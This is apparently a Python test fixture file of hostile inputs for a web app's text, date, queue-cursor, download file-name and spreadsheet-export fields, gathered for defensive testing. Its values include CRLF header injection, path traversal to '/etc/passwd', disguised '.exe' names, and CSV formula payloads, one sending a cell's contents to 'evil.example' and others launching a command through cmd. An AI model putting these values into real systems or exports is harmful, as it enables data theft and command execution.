"""Hostile strings for the desk's text, identifier, date and cursor inputs.

Each is something a person or a program really sends now and then: a NUL pasted from a PDF, a
line break carried over from a spreadsheet cell, a right-to-left override that makes
"exe.jpg" read as "gpj.exe", a token far longer than any field, a year typed as 1 or 9999.
"""

import base64

NUL = "before\x00after"
CRLF = "111-2223334-4445556\r\nBcc: everyone@example.com"
LF = "111-2223334\n4445556"
BELL_AND_ESCAPE = "ORD\x07-\x1b[31m-1"
DELETE = "ORD\x7f1"
BIDI_OVERRIDE = "invoice\u202egpj.exe"
ZERO_WIDTH = "SKU\u200b-1"
LINE_SEPARATOR = "TRACK\u2028ING"
LONG_TOKEN = "x" * 100_000

# Every identifier input must refuse these (a NUL is refused by every text input).
HOSTILE_IDENTIFIERS = {
    "nul": NUL,
    "crlf": CRLF,
    "lf": LF,
    "bell-and-escape": BELL_AND_ESCAPE,
    "delete": DELETE,
    "bidi-override": BIDI_OVERRIDE,
    "zero-width-space": ZERO_WIDTH,
    "line-separator": LINE_SEPARATOR,
}

# As a datetime-local input sends them, and as a date input does.
YEAR_ONE = "0001-01-01T00:00"
YEAR_9999 = "9999-12-31T23:59"
IMPLAUSIBLE_DATETIMES = {"year-1": YEAR_ONE, "year-9999": YEAR_9999}
IMPLAUSIBLE_DATES = {"year-1": "0001-01-01", "year-9999": "9999-12-31"}


def _cursor(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode()


# Queue cursors the page never makes: each must give the first page.
ABSURD_CURSORS = {
    "not-base64": "%%%not base64%%%",
    "nul": "\x00",
    "very-long": "A" * 50_000,
    "no-separator": _cursor("2026-05-01T10:00:00+00:00"),
    "three-parts": _cursor("2026-05-01T10:00:00+00:00|1|2"),
    "not-utf8": base64.urlsafe_b64encode(b"\xff\xfe|1").decode(),
    "no-offset": _cursor("2026-05-01T10:00:00|1"),
    "year-1-east-of-utc": _cursor("0001-01-01T00:00:00+14:00|1"),
    "year-9999-west-of-utc": _cursor("9999-12-31T23:59:59-12:00|1"),
    "huge-id": _cursor("-|" + "9" * 40),
    "thousands-of-digits": _cursor("-|" + "9" * 5000),
    "negative-id": _cursor("-|-5"),
    "superscript-digit": _cursor("-|\u00b2"),
}

# File names a download could be built from.
HOSTILE_FILE_NAMES = {
    "filename-star": "x\"; filename*=UTF-8''evil.html; x=\"",
    "crlf-header": "x\r\nSet-Cookie: session=stolen",
    "backslashes": "..\\..\\evil",
    "slashes": "../../etc/passwd",
    "bidi-override": "appeal\u202efdp.exe",
    "nul": "a\x00b",
}

# Cells a spreadsheet would run as formulas (OWASP, "CSV Injection").
FORMULA_CELLS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
